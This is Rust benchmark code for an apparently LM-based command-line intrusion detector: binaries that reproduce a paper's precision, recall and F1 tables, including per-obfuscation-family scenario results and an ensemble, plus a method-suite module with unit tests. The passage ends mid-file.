        let e = evaluate_scores(&run_classification(&exp, &mut rng), U_RECALL, &[]);
        classif.0.push(e.po);
        classif.1.push(e.po_i);

        // Retrieval is deterministic given the pipeline: single run is
        // enough (the paper does the same), but re-running per seed
        // captures data variance.
        eprintln!("[run {}/{}] retrieval…", run + 1, args.runs);
        let e = evaluate_scores(&run_retrieval(&exp), U_RECALL, &[]);
        retrieval.0.push(e.po);
        retrieval.1.push(e.po_i);
    }

    let fmt_ms = |ms: Option<MeanStd>| match ms {
        Some(m) => format!("{m}"),
        None => "-".to_string(),
    };

    println!();
    print_row(&["method".into(), "PO".into(), "PO&I".into()]);
    print_row(&["---".into(), "---".into(), "---".into()]);
    print_row(&[
        "Reconstruction".into(),
        fmt_ms(MeanStd::from_runs(recon.0.clone())),
        fmt_ms(MeanStd::from_runs(recon.1.clone())),
    ]);
    print_row(&[
        "Classification".into(),
        fmt_ms(MeanStd::from_runs(classif.0.clone())),
        fmt_ms(MeanStd::from_runs(classif.1.clone())),
    ]);
    print_row(&[
        "Retrieval".into(),
        fmt_ms(MeanStd::from_runs(retrieval.0.clone())),
        fmt_ms(MeanStd::from_runs(retrieval.1.clone())),
    ]);

    println!();
    println!("paper (Table I): Recon 0.913/0.999, Classif 0.832/0.994, Retr 0.569/0.892");

    // Shape assertions from the paper: reconstruction and classification
    // both achieve near-perfect overall precision; retrieval trails.
    let ri = MeanStd::from_runs(recon.1).map(|m| m.mean).unwrap_or(0.0);
    let ci = MeanStd::from_runs(classif.1).map(|m| m.mean).unwrap_or(0.0);
    let ti = MeanStd::from_runs(retrieval.1).map(|m| m.mean).unwrap_or(0.0);
    println!();
    println!(
        "shape check: PO&I recon {ri:.3} ≥ retrieval {ti:.3}: {}; classif {ci:.3} ≥ retrieval: {}",
        ri >= ti,
        ci >= ti
    );
}
