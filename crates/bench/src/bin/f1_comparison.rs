//! Reproduces **Section V-B**: F1 comparison between classification-based
//! tuning and the commercial IDS on the predicted-positive benchmark.
//!
//! Paper values: model precision 99.4% / recall 100% / F1 99.7%;
//! commercial IDS precision 100% / recall ≈97.4% / F1 98.7% — the model
//! wins on F1 because it recalls the out-of-box intrusions the IDS
//! misses.
//!
//! Run: `cargo run --release --bin f1_comparison -p bench`

use bench::methods::MethodSuite;
use bench::{Args, Experiment};
use cmdline_ids::eval::evaluate_scores;

fn main() {
    let args = Args::parse();
    println!(
        "Section V-B reproduction: train={} test={} seed={} index={}",
        args.train_size,
        args.test_size,
        args.seed,
        args.index.name()
    );
    let exp = Experiment::setup(args.seed, args.config());

    let suite = MethodSuite::new(&exp)
        .with_index(args.index)
        .with_classification()
        .run()
        .expect("suite run");
    let samples = suite.samples("classification").expect("registered method");
    let eval = evaluate_scores(&samples, 0.90, &[]);
    let Some(f1) = eval.f1 else {
        eprintln!("no in-box intrusions in this draw; rerun with another --seed");
        std::process::exit(1);
    };

    println!();
    println!(
        "benchmark set: T = {} predicted positives; S = {} IDS alerts",
        f1.t_predicted, f1.s_ids_alerts
    );
    println!(
        "PO (x) = {}",
        eval.po
            .map(|x| format!("{x:.3}"))
            .unwrap_or_else(|| "-".into())
    );
    println!();
    println!("| system          | precision | recall | F1    |");
    println!("| ---             | ---       | ---    | ---   |");
    println!(
        "| our IDS (model) | {:.3}     | {:.3}  | {:.3} |",
        f1.model_precision, f1.model_recall, f1.model_f1
    );
    println!(
        "| commercial IDS  | {:.3}     | {:.3}  | {:.3} |",
        f1.ids_precision, f1.ids_recall, f1.ids_f1
    );
    println!();
    println!("paper: model 0.994/1.000/0.997 vs commercial 1.000/0.974/0.987");

    // Shape assertions: the model's F1 exceeds the commercial IDS's, and
    // the IDS recall is strictly below 1 (it misses out-of-box attacks).
    assert!(
        f1.model_f1 > f1.ids_f1,
        "model F1 {:.3} must exceed IDS F1 {:.3}",
        f1.model_f1,
        f1.ids_f1
    );
    assert!(f1.ids_recall < 1.0);
    println!("shape check: model F1 > commercial-IDS F1, IDS recall < 1 — ok");
}
