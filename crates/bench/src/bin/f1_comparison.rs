//! Reproduces **Section V-B**: F1 comparison between classification-based
//! tuning and the commercial IDS on the predicted-positive benchmark —
//! plus the obfuscation scenario table the layered parser enables.
//!
//! Paper values: model precision 99.4% / recall 100% / F1 99.7%;
//! commercial IDS precision 100% / recall ≈97.4% / F1 98.7% — the model
//! wins on F1 because it recalls the out-of-box intrusions the IDS
//! misses.
//!
//! The scenario table evaluates each obfuscated attack family
//! (quoting tricks, encoded payloads, living-off-the-land, staged
//! exfiltration) as its own benchmark: the family's malicious lines
//! against the shared benign mass, best-F1 per method. The ensemble
//! rank-fuses the LM methods with the structural side-channel detector
//! ([`EngineRun::fuse`](cmdline_ids::engine::EngineRun::fuse)) and must
//! match or beat the best single LM method on every family. Both
//! tables persist to `BENCH_scenarios.json` (sections `headline` and
//! `scenarios`).
//!
//! Run: `cargo run --release --bin f1_comparison -p bench`

use bench::methods::MethodSuite;
use bench::perf::{merge_report, Value};
use bench::{Args, Experiment};
use cmdline_ids::eval::evaluate_scores;
use cmdline_ids::metrics::{best_f1, ScoredSample};
use corpus::AttackFamily;

/// The LM methods the ensemble is benchmarked against.
const LM_METHODS: [&str; 2] = ["classification", "retrieval"];
/// Fusion members and rank weights (LM methods + structural).
const ENSEMBLE: [&str; 3] = ["classification", "retrieval", "structural"];
const ENSEMBLE_WEIGHTS: [f32; 3] = [1.0, 2.0, 1.0];

/// Restricts scenario samples to the benign mass plus one family.
fn scenario_subset(
    samples: &[ScoredSample],
    tags: &[Option<AttackFamily>],
    family: AttackFamily,
) -> Vec<ScoredSample> {
    samples
        .iter()
        .zip(tags)
        .filter(|(_, t)| t.is_none() || **t == Some(family))
        .map(|(s, _)| *s)
        .collect()
}

fn main() {
    let args = Args::parse();
    let mut config = args.config();
    // The scenario table needs every obfuscated family represented in
    // the de-duplicated test split; raise the attack rate the same way
    // `PipelineConfig::experiment` does versus production traffic.
    config.attack_prob = config.attack_prob.max(0.24);
    println!(
        "Section V-B reproduction: train={} test={} seed={} index={}",
        args.train_size,
        args.test_size,
        args.seed,
        args.index.name()
    );
    let exp = Experiment::setup(args.seed, config);

    let suite = MethodSuite::new(&exp)
        .with_index(args.index)
        .with_classification()
        .with_retrieval(1)
        .with_structural()
        .run()
        .expect("suite run");
    let samples = suite.samples("classification").expect("registered method");
    let eval = evaluate_scores(&samples, 0.90, &[]);
    let Some(f1) = eval.f1 else {
        eprintln!("no in-box intrusions in this draw; rerun with another --seed");
        std::process::exit(1);
    };

    println!();
    println!(
        "benchmark set: T = {} predicted positives; S = {} IDS alerts",
        f1.t_predicted, f1.s_ids_alerts
    );
    println!(
        "PO (x) = {}",
        eval.po
            .map(|x| format!("{x:.3}"))
            .unwrap_or_else(|| "-".into())
    );
    println!();
    println!("| system          | precision | recall | F1    |");
    println!("| ---             | ---       | ---    | ---   |");
    println!(
        "| our IDS (model) | {:.3}     | {:.3}  | {:.3} |",
        f1.model_precision, f1.model_recall, f1.model_f1
    );
    println!(
        "| commercial IDS  | {:.3}     | {:.3}  | {:.3} |",
        f1.ids_precision, f1.ids_recall, f1.ids_f1
    );
    println!();
    println!("paper: model 0.994/1.000/0.997 vs commercial 1.000/0.974/0.987");

    // Shape assertions: the model's F1 exceeds the commercial IDS's, and
    // the IDS recall is strictly below 1 (it misses out-of-box attacks).
    assert!(
        f1.model_f1 > f1.ids_f1,
        "model F1 {:.3} must exceed IDS F1 {:.3}",
        f1.model_f1,
        f1.ids_f1
    );
    assert!(f1.ids_recall < 1.0);
    println!("shape check: model F1 > commercial-IDS F1, IDS recall < 1 — ok");

    let mut headline = Value::object();
    headline
        .push("seed", Value::Int(args.seed as i64))
        .push("model_f1", Value::Float(f1.model_f1))
        .push("ids_f1", Value::Float(f1.ids_f1))
        .push("t_predicted", Value::Int(f1.t_predicted as i64))
        .push("s_ids_alerts", Value::Int(f1.s_ids_alerts as i64));
    merge_report("BENCH_scenarios.json", "headline", headline);

    // ── Obfuscation scenarios ────────────────────────────────────────
    let tags = exp.family_tags(suite.deduped_test());
    let per_method: Vec<(&str, Vec<ScoredSample>)> = ENSEMBLE
        .iter()
        .map(|&name| (name, suite.samples(name).expect("registered method")))
        .collect();
    let fused = suite
        .fused_samples(&ENSEMBLE, &ENSEMBLE_WEIGHTS)
        .expect("line-aligned methods fuse");

    println!();
    println!("obfuscation scenarios (per-family best F1, benign ∪ family):");
    println!("| scenario            | n  | classification | retrieval | structural | ensemble |");
    println!("| ---                 | ---| ---            | ---       | ---        | ---      |");
    let mut rows = Vec::new();
    let mut strict_wins = 0usize;
    for family in AttackFamily::OBFUSCATED {
        let support = tags.iter().filter(|t| **t == Some(family)).count();
        assert!(
            support > 0,
            "{family} has no test samples in this draw; rerun with another --seed"
        );
        let mut row = Value::object();
        row.push("scenario", Value::Str(family.to_string()))
            .push("support", Value::Int(support as i64));
        let mut cells: Vec<String> = Vec::new();
        let mut best_lm = 0.0f64;
        for (name, samples) in &per_method {
            let sub = scenario_subset(samples, &tags, family);
            let best = best_f1(&sub).expect("family has malicious samples");
            if LM_METHODS.contains(name) {
                best_lm = best_lm.max(best.f1);
            }
            row.push(&format!("{name}_f1"), Value::Float(best.f1));
            cells.push(format!("{:.3}", best.f1));
        }
        let ens =
            best_f1(&scenario_subset(&fused, &tags, family)).expect("family has malicious samples");
        if std::env::var_os("SCENARIO_DEBUG").is_some() {
            let mut benign: Vec<usize> = tags
                .iter()
                .enumerate()
                .filter(|(_, t)| t.is_none())
                .map(|(i, _)| i)
                .collect();
            benign.sort_by(|&a, &b| fused[b].score.total_cmp(&fused[a].score));
            for &i in benign.iter().take(20) {
                let line = &suite.deduped_test()[i].line;
                let per: Vec<String> = per_method
                    .iter()
                    .map(|(n, s)| format!("{n}={:.4}", s[i].score))
                    .collect();
                eprintln!(
                    "[benign-top] fused={:.4} {} :: {line}",
                    fused[i].score,
                    per.join(" ")
                );
            }
            for (i, t) in tags.iter().enumerate() {
                if *t == Some(family) {
                    let line = &suite.deduped_test()[i].line;
                    let per: Vec<String> = per_method
                        .iter()
                        .map(|(n, s)| format!("{n}={:.4}", s[i].score))
                        .collect();
                    eprintln!(
                        "[{family}] fused={:.4} {} :: {line}",
                        fused[i].score,
                        per.join(" ")
                    );
                }
            }
        }
        row.push("ensemble_f1", Value::Float(ens.f1))
            .push("best_lm_f1", Value::Float(best_lm));
        rows.push(Value::Object(match row {
            Value::Object(entries) => entries,
            _ => unreachable!(),
        }));
        println!(
            "| {family:<19} | {support:<2} | {:<14} | {:<9} | {:<10} | {:.3}    |",
            cells[0], cells[1], cells[2], ens.f1
        );
        assert!(
            ens.f1 + 1e-9 >= best_lm,
            "{family}: ensemble F1 {:.3} below best LM F1 {:.3}",
            ens.f1,
            best_lm
        );
        if ens.f1 > best_lm + 1e-9 {
            strict_wins += 1;
        }
    }
    assert!(
        strict_wins >= 2,
        "ensemble must strictly beat the best LM method on ≥ 2 scenarios, got {strict_wins}"
    );
    println!(
        "shape check: ensemble ≥ best LM on every scenario, strictly better on {strict_wins} — ok"
    );

    let mut scenarios = Value::object();
    scenarios
        .push("seed", Value::Int(args.seed as i64))
        .push("train", Value::Int(args.train_size as i64))
        .push("test", Value::Int(args.test_size as i64))
        .push("ensemble", {
            Value::Array(
                ENSEMBLE
                    .iter()
                    .map(|&n| Value::Str(n.to_string()))
                    .collect(),
            )
        })
        .push("strict_wins", Value::Int(strict_wins as i64))
        .push("rows", Value::Array(rows));
    let path = merge_report("BENCH_scenarios.json", "scenarios", scenarios);
    println!("wrote {}", path.display());
}
