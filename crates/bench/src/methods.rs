//! Engine-backed method suite for the paper's Section III/IV scoring
//! methods.
//!
//! [`MethodSuite`] registers the requested methods as
//! [`Detector`](cmdline_ids::engine::Detector)s on a
//! [`ScoringEngine`], runs them over **shared**
//! [`EmbeddingStore`]-memoized views of the training lines and the
//! de-duplicated test split, and packs scores into
//! [`ScoredSample`]s. The multi-method table binaries therefore embed
//! the test split once per pooling mode instead of once per method —
//! see `tests/engine_suite.rs` for the hit-count proof and
//! `benches/engine.rs` for the measured speedup.

use crate::Experiment;
use anomaly::{
    IsolationForestMethod, OneClassSvmMethod, PcaMethod, RetrievalMethod, StructuralDetector,
    VanillaKnnMethod,
};
use cmdline_ids::engine::{
    window_dedup_indices, ClassificationMethod, Detector, EmbeddingStore, EngineError, EngineRun,
    IndexConfig, MultiLineMethod, Quantization, ReconstructionMethod, ScoringEngine,
};
use cmdline_ids::metrics::ScoredSample;
use cmdline_ids::tuning::{ReconstructionConfig, TuneConfig};
use corpus::LogRecord;

pub use cmdline_ids::engine::subsample_labeled;

/// Context width for the multi-line method (the paper uses 3).
pub const MULTI_LINE_WIDTH: usize = 3;
/// Maximum context gap in seconds ("execution time … not too long ago").
pub const MULTI_LINE_MAX_GAP: u64 = 600;
/// Negative-label cap for reconstruction tuning's subsample.
pub const RECON_MAX_NEGATIVES: usize = 2_500;

/// Builder registering scoring methods over one experiment.
pub struct MethodSuite<'e> {
    exp: &'e Experiment,
    engine: ScoringEngine,
}

impl<'e> MethodSuite<'e> {
    /// An empty suite over `exp`.
    pub fn new(exp: &'e Experiment) -> Self {
        MethodSuite {
            exp,
            engine: ScoringEngine::new(),
        }
    }

    /// Registers any custom detector. The suite fits and scores every
    /// detector on store-memoized views of the training lines and the
    /// de-duplicated test split, pooled per the detector's own
    /// [`Detector::pooling`] (lines-only views for methods that never
    /// read embeddings); detectors expecting other inputs must go
    /// through [`cmdline_ids::engine::ScoringEngine`] directly.
    pub fn register(mut self, detector: Box<dyn Detector>) -> Self {
        self.engine = self.engine.register(detector);
        self
    }

    /// Selects the vector-index backend for every neighbour-based
    /// method in this run (retrieval, vanilla kNN): exact for
    /// paper-faithful, bit-reproducible scores; HNSW for sublinear
    /// approximate search at scale; either `.with_shards(n)`-wrapped
    /// for a partitioned exemplar set.
    pub fn with_index(mut self, config: IndexConfig) -> Self {
        self.engine = self.engine.with_index_config(config);
        self
    }

    /// Partitions every neighbour-based method's exemplar index across
    /// `shards` sub-indexes on top of the configured backend (the
    /// `--shards` CLI knob; sharded-exact stays bit-identical to
    /// exact).
    pub fn with_shards(mut self, shards: usize) -> Self {
        self.engine = self.engine.with_shards(shards);
        self
    }

    /// Stores every neighbour-based method's candidates in `quant`
    /// format on top of the configured backend (the `--quant` CLI
    /// knob; f32 stays bit-identical to the historical scans).
    pub fn with_quant(mut self, quant: Quantization) -> Self {
        self.engine = self.engine.with_quant(quant);
        self
    }

    /// Single-line classification tuning (scaled config).
    pub fn with_classification(self) -> Self {
        let seed = self.exp.method_seed("classification");
        self.with_classification_seeded(seed)
    }

    /// Single-line classification tuning with an explicit seed.
    pub fn with_classification_seeded(self, seed: u64) -> Self {
        self.with_classification_config(TuneConfig::scaled(), seed)
    }

    /// Single-line classification tuning with a custom config. The
    /// suite honours `config.pooling` ([`Detector::pooling`]): a
    /// CLS-probed paper config fits and scores on `[CLS]` views while
    /// every mean-pooled method in the same run keeps its own space —
    /// each `(line set, pooling)` pair still embedded exactly once.
    pub fn with_classification_config(self, config: TuneConfig, seed: u64) -> Self {
        self.register(Box::new(ClassificationMethod::new(config, seed)))
    }

    /// Reconstruction-based tuning (scaled config).
    pub fn with_reconstruction(self) -> Self {
        let seed = self.exp.method_seed("reconstruction");
        self.with_reconstruction_seeded(seed)
    }

    /// Reconstruction-based tuning with an explicit seed.
    pub fn with_reconstruction_seeded(self, seed: u64) -> Self {
        let method = ReconstructionMethod::new(
            &self.exp.pipeline,
            ReconstructionConfig::scaled(),
            RECON_MAX_NEGATIVES,
            seed,
        );
        self.register(Box::new(method))
    }

    /// The paper's retrieval method (kNN over malicious exemplars).
    pub fn with_retrieval(self, k: usize) -> Self {
        self.register(Box::new(RetrievalMethod::new(k)))
    }

    /// The vanilla majority-vote kNN ablation.
    pub fn with_vanilla_knn(self, k: usize) -> Self {
        self.register(Box::new(VanillaKnnMethod::new(k)))
    }

    /// The structural side-channel detector: AST shape statistics
    /// straight off the shell parse, no embeddings — the non-LM
    /// ensemble member for the obfuscation scenarios. Deterministic,
    /// so it takes no seed.
    pub fn with_structural(self) -> Self {
        self.register(Box::new(StructuralDetector::new()))
    }

    /// Multi-line classification over the experiment's raw streams.
    pub fn with_multiline(self) -> Self {
        let seed = self.exp.method_seed("multiline");
        self.with_multiline_seeded(seed)
    }

    /// Multi-line classification with an explicit seed.
    pub fn with_multiline_seeded(self, seed: u64) -> Self {
        let method = MultiLineMethod::new(
            &self.exp.pipeline,
            self.exp.dataset.train.clone(),
            self.exp.dataset.test.clone(),
            MULTI_LINE_WIDTH,
            MULTI_LINE_MAX_GAP,
            TuneConfig::scaled(),
            seed,
        );
        self.register(Box::new(method))
    }

    /// The Section III unsupervised detectors (PCA reconstruction
    /// error, one-class SVM, isolation forest) over the same space.
    pub fn with_unsupervised(self) -> Self {
        let iforest_seed = self.exp.method_seed("iforest");
        let ocsvm_seed = self.exp.method_seed("ocsvm");
        self.register(Box::new(PcaMethod::new(0.95)))
            .register(Box::new(OneClassSvmMethod::new(0.1, 5, ocsvm_seed)))
            .register(Box::new(IsolationForestMethod::new(50, 256, iforest_seed)))
    }

    /// Fits every registered method on (memoized) training views and
    /// scores the de-duplicated test split in one pass.
    ///
    /// Views are built *per detector*: each method gets the pooling its
    /// config requires ([`Detector::pooling`]), the shared store
    /// memoizes so every distinct `(line set, pooling)` pair is
    /// embedded exactly once however many methods read it, and methods
    /// that never read embeddings get lines-only views — a
    /// multiline-only or reconstruction-only suite skips the encoder
    /// entirely.
    pub fn run(self) -> Result<SuiteRun<'e>, EngineError> {
        let exp = self.exp;
        let store = EmbeddingStore::new(&exp.pipeline);
        let train_lines = exp.train_lines();
        let labels = exp.train_labels();
        let dedup = exp.deduped_test();
        let test_lines: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
        let fitted = self
            .engine
            .fit_each(&labels, |det| detector_view(&store, &train_lines, det))?;
        let run = fitted.score_each(|det| detector_view(&store, &test_lines, det));
        Ok(SuiteRun {
            exp,
            dedup,
            run,
            store,
            multiline_kept: std::sync::OnceLock::new(),
        })
    }
}

/// The per-detector view contract shared by [`MethodSuite::run`] and
/// [`replay_through_service`]: a store-memoized view pooled per
/// [`Detector::pooling`], or a lines-only view when the method never
/// reads embeddings (so embedding-free suites skip the encoder).
fn detector_view(
    store: &EmbeddingStore<'_>,
    lines: &[&str],
    det: &dyn Detector,
) -> cmdline_ids::engine::EmbeddingView {
    if det.wants_embeddings() {
        store.view(lines, det.pooling())
    } else {
        cmdline_ids::engine::EmbeddingView::lines_only(
            lines.iter().map(|s| s.to_string()).collect(),
        )
    }
}

/// The outputs of a [`MethodSuite::run`], with experiment-aware
/// sample packing.
pub struct SuiteRun<'e> {
    exp: &'e Experiment,
    dedup: Vec<LogRecord>,
    run: EngineRun,
    store: EmbeddingStore<'e>,
    /// Window-dedup indices into the raw test stream, computed once on
    /// first use (the multiline walk joins every window string).
    multiline_kept: std::sync::OnceLock<Vec<usize>>,
}

impl SuiteRun<'_> {
    /// The raw engine outputs.
    pub fn engine_run(&self) -> &EngineRun {
        &self.run
    }

    /// The embedding store the run used (hit/miss inspection).
    pub fn store(&self) -> &EmbeddingStore<'_> {
        &self.store
    }

    /// The de-duplicated test records the line-aligned scores follow.
    pub fn deduped_test(&self) -> &[LogRecord] {
        &self.dedup
    }

    /// One method's raw scores.
    pub fn scores(&self, name: &str) -> Option<&[f32]> {
        self.run.scores(name)
    }

    /// One method's scores packed with ground truth and in-box status.
    ///
    /// Line-aligned methods pack against the de-duplicated test split;
    /// `"multiline"` packs against the window-deduplicated stream (the
    /// paper's protocol for that method).
    pub fn samples(&self, name: &str) -> Option<Vec<ScoredSample>> {
        let scores = self.run.scores(name)?;
        if name == "multiline" {
            let kept = self.kept_window_indices();
            assert_eq!(kept.len(), scores.len(), "multiline alignment");
            Some(
                kept.iter()
                    .zip(scores)
                    .map(|(&i, &score)| {
                        let r = &self.exp.dataset.test[i];
                        ScoredSample {
                            score,
                            malicious: r.truth.is_malicious(),
                            in_box: self.exp.is_alert(&r.line),
                        }
                    })
                    .collect(),
            )
        } else {
            Some(self.exp.scored(&self.dedup, scores))
        }
    }

    /// The test records behind the `"multiline"` samples, in order.
    pub fn multiline_records(&self) -> Vec<&LogRecord> {
        self.kept_window_indices()
            .iter()
            .map(|&i| &self.exp.dataset.test[i])
            .collect()
    }

    fn kept_window_indices(&self) -> &[usize] {
        self.multiline_kept.get_or_init(|| {
            window_dedup_indices(&self.exp.dataset.test, MULTI_LINE_WIDTH, MULTI_LINE_MAX_GAP)
        })
    }

    /// Rank-fusion ensemble of line-aligned methods, packed into
    /// samples — the paper's future-work ensemble.
    pub fn fused_samples(
        &self,
        names: &[&str],
        weights: &[f32],
    ) -> Result<Vec<ScoredSample>, EngineError> {
        let fused = self.run.fuse(names, weights)?;
        Ok(self.exp.scored(&self.dedup, &fused))
    }
}

/// The outcome of [`replay_through_service`]: streamed scores next to
/// the one-shot batch reference, plus throughput counters.
pub struct ReplayReport {
    /// Method names, registration order (score vectors follow it).
    pub names: Vec<String>,
    /// Per-method scores from the one-shot batch pass.
    pub batch: Vec<Vec<f32>>,
    /// Per-method scores from the line-by-line service replay.
    pub streamed: Vec<Vec<f32>>,
    /// Lines replayed.
    pub lines: usize,
    /// Wall-clock of the streamed replay.
    pub elapsed: std::time::Duration,
    /// Micro-batches the service coalesced the replay into.
    pub micro_batches: usize,
}

impl ReplayReport {
    /// Whether every streamed score is bit-identical to the batch
    /// reference (guaranteed on the exact backend; approximate
    /// backends may legitimately differ).
    pub fn bit_identical(&self) -> bool {
        self.batch == self.streamed
    }

    /// Streamed lines per second.
    pub fn throughput(&self) -> f64 {
        self.lines as f64 / self.elapsed.as_secs_f64()
    }
}

/// Fits `engine` on the experiment's supervision (store-memoized,
/// per-detector pooled views), scores the de-duplicated test split
/// once as the batch reference, then replays the same split through a
/// long-lived [`serve::ScoringService`] in `chunk`-line arrivals —
/// the `--serve` mode of the table binaries.
pub fn replay_through_service(
    exp: &Experiment,
    engine: ScoringEngine,
    serve_config: serve::ServeConfig,
    chunk: usize,
) -> Result<ReplayReport, EngineError> {
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let labels = exp.train_labels();
    let dedup = exp.deduped_test();
    let test_lines: Vec<String> = dedup.iter().map(|r| r.line.clone()).collect();
    let fitted = engine.fit_each(&labels, |det| detector_view(&store, &train_lines, det))?;
    let refs: Vec<&str> = test_lines.iter().map(String::as_str).collect();
    let batch_run = fitted.score_each(|det| detector_view(&store, &refs, det));
    let names: Vec<String> = batch_run.outputs().iter().map(|m| m.name.clone()).collect();
    let batch: Vec<Vec<f32>> = batch_run
        .outputs()
        .iter()
        .map(|m| m.scores.clone())
        .collect();

    let service = serve::ScoringService::spawn(exp.pipeline.clone(), fitted, serve_config)
        .expect("table methods are line-aligned");
    let mut streamed: Vec<Vec<f32>> = vec![Vec::with_capacity(test_lines.len()); names.len()];
    let t0 = std::time::Instant::now();
    for lines in test_lines.chunks(chunk.max(1)) {
        for line_scores in service.score_batch(lines).expect("service alive") {
            for (m, s) in line_scores.into_iter().enumerate() {
                streamed[m].push(s);
            }
        }
    }
    let elapsed = t0.elapsed();
    let stats = service.stats();
    service.shutdown();
    Ok(ReplayReport {
        names,
        batch,
        streamed,
        lines: test_lines.len(),
        elapsed,
        micro_batches: stats.batches,
    })
}

/// Classification-based tuning end to end: fit on supervision labels,
/// score the de-duplicated test set.
pub fn run_classification(exp: &Experiment, seed: u64) -> Vec<ScoredSample> {
    let run = MethodSuite::new(exp)
        .with_classification_seeded(seed)
        .run()
        .expect("classification suite");
    run.samples("classification").expect("registered method")
}

/// Multi-line classification; the test set is de-duplicated *by
/// window*, which is why the paper reports only top-v metrics for it.
pub fn run_multiline(exp: &Experiment, seed: u64) -> Vec<ScoredSample> {
    let run = MethodSuite::new(exp)
        .with_multiline_seeded(seed)
        .run()
        .expect("multiline suite");
    run.samples("multiline").expect("registered method")
}

/// Reconstruction-based tuning: alternating f/W optimization (Eq. 2).
pub fn run_reconstruction(exp: &Experiment, seed: u64) -> Vec<ScoredSample> {
    let run = MethodSuite::new(exp)
        .with_reconstruction_seeded(seed)
        .run()
        .expect("reconstruction suite");
    run.samples("reconstruction").expect("registered method")
}

/// Retrieval (1NN over malicious exemplars; no tuning) over the exact
/// backend.
pub fn run_retrieval(exp: &Experiment) -> Vec<ScoredSample> {
    run_retrieval_with(exp, IndexConfig::Exact)
}

/// [`run_retrieval`] over an explicit vector-index backend.
pub fn run_retrieval_with(exp: &Experiment, index: IndexConfig) -> Vec<ScoredSample> {
    let run = MethodSuite::new(exp)
        .with_index(index)
        .with_retrieval(1)
        .run()
        .expect("retrieval suite");
    run.samples("retrieval").expect("registered method")
}

/// Ablation: vanilla majority-vote kNN (the method the paper modified
/// away from because of label noise) over the exact backend.
pub fn run_vanilla_knn(exp: &Experiment, k: usize) -> Vec<ScoredSample> {
    run_vanilla_knn_with(exp, k, IndexConfig::Exact)
}

/// [`run_vanilla_knn`] over an explicit vector-index backend.
pub fn run_vanilla_knn_with(exp: &Experiment, k: usize, index: IndexConfig) -> Vec<ScoredSample> {
    let run = MethodSuite::new(exp)
        .with_index(index)
        .with_vanilla_knn(k)
        .run()
        .expect("vanilla kNN suite");
    run.samples("vanilla-knn").expect("registered method")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cmdline_ids::embed::Pooling;
    use cmdline_ids::pipeline::PipelineConfig;

    fn tiny_experiment() -> Experiment {
        let mut config = PipelineConfig::fast();
        config.train_size = 800;
        config.test_size = 400;
        config.attack_prob = 0.25;
        Experiment::setup(99, config)
    }

    #[test]
    fn suite_scores_all_methods_in_one_run() {
        let exp = tiny_experiment();
        let n = exp.deduped_test().len();
        let run = MethodSuite::new(&exp)
            .with_classification()
            .with_retrieval(1)
            .with_vanilla_knn(3)
            .with_multiline()
            .with_reconstruction()
            .run()
            .expect("suite runs");

        for name in [
            "classification",
            "retrieval",
            "vanilla-knn",
            "reconstruction",
        ] {
            let samples = run.samples(name).expect(name);
            assert_eq!(samples.len(), n, "{name}");
            assert!(samples.iter().all(|s| s.score.is_finite()), "{name}");
        }
        let multi = run.samples("multiline").expect("multiline");
        assert!(!multi.is_empty());
        assert!(multi.iter().all(|s| s.score.is_finite()));

        // The shared line sets were embedded exactly once each
        // (train + deduped test), however many methods consumed them.
        assert_eq!(run.store().misses(), 2);
    }

    #[test]
    fn fused_samples_align_with_dedup() {
        let exp = tiny_experiment();
        let run = MethodSuite::new(&exp)
            .with_retrieval(1)
            .with_vanilla_knn(3)
            .run()
            .expect("suite runs");
        let fused = run
            .fused_samples(&["retrieval", "vanilla-knn"], &[1.0, 1.0])
            .expect("uniform lengths fuse");
        assert_eq!(fused.len(), exp.deduped_test().len());
    }

    #[test]
    fn wrappers_produce_one_score_per_sample() {
        let exp = tiny_experiment();
        let n = exp.deduped_test().len();
        let cls = run_classification(&exp, exp.method_seed("classification"));
        assert_eq!(cls.len(), n);
        let retr = run_retrieval(&exp);
        assert_eq!(retr.len(), n);
    }

    #[test]
    fn cls_pooled_classification_threads_through_the_suite() {
        // The ROADMAP gap this pins down: the suite used to reject
        // CLS-pooled classification configs outright. Now the
        // per-detector pooling contract routes the paper config onto
        // `[CLS]` views while retrieval keeps the mean-pooled space.
        let exp = tiny_experiment();
        let mut config = TuneConfig::scaled();
        config.pooling = Pooling::Cls;
        let run = MethodSuite::new(&exp)
            .with_classification_config(config, exp.method_seed("classification"))
            .with_retrieval(1)
            .run()
            .expect("mixed-pooling suite runs");
        let n = exp.deduped_test().len();
        for name in ["classification", "retrieval"] {
            let samples = run.samples(name).expect(name);
            assert_eq!(samples.len(), n, "{name}");
            assert!(samples.iter().all(|s| s.score.is_finite()), "{name}");
        }
        // Four distinct (line set, pooling) pairs → exactly four
        // encoder passes: train/test × mean/CLS.
        assert_eq!(run.store().misses(), 4);
        assert_eq!(run.store().len(), 4);
    }

    #[test]
    fn structural_detector_rides_the_suite_without_encoder_passes() {
        let exp = tiny_experiment();
        let n = exp.deduped_test().len();
        let run = MethodSuite::new(&exp)
            .with_retrieval(1)
            .with_structural()
            .run()
            .expect("suite runs");
        let samples = run.samples("structural").expect("registered");
        assert_eq!(samples.len(), n);
        assert!(samples.iter().all(|s| s.score.is_finite()));
        // Structural scores off the parse, not the encoder: only the
        // retrieval method's two line sets hit the embedding store.
        assert_eq!(run.store().misses(), 2);
        // And it fuses with the LM methods line-aligned.
        let fused = run
            .fused_samples(&["retrieval", "structural"], &[1.0, 1.0])
            .expect("line-aligned methods fuse");
        assert_eq!(fused.len(), n);
    }

    #[test]
    fn embedding_free_methods_skip_the_encoder() {
        let exp = tiny_experiment();
        // A multiline-only suite never reads frozen-space embeddings,
        // so the store must not run the encoder at all.
        let run = MethodSuite::new(&exp)
            .with_multiline()
            .run()
            .expect("multiline-only suite");
        assert_eq!(run.store().misses(), 0, "no encoder pass should run");
        assert!(!run.samples("multiline").expect("registered").is_empty());
    }
}
