//! Fits each of the paper's Section IV methods on an [`Experiment`] and
//! scores the de-duplicated test split.

use crate::Experiment;
use cmdline_ids::metrics::ScoredSample;
use cmdline_ids::retrieval::{Retrieval, VanillaRetrieval};
use cmdline_ids::tuning::{
    ClassificationTuner, MultiLineClassifier, ReconstructionConfig, ReconstructionTuner,
    TuneConfig,
};

use rand::seq::SliceRandom;
use rand::Rng;

/// Context width for the multi-line method (the paper uses 3).
pub const MULTI_LINE_WIDTH: usize = 3;
/// Maximum context gap in seconds ("execution time … not too long ago").
pub const MULTI_LINE_MAX_GAP: u64 = 600;

/// Subsamples the labeled training set, keeping every positive and up to
/// `max_negatives` negatives — reconstruction tuning iterates embeddings
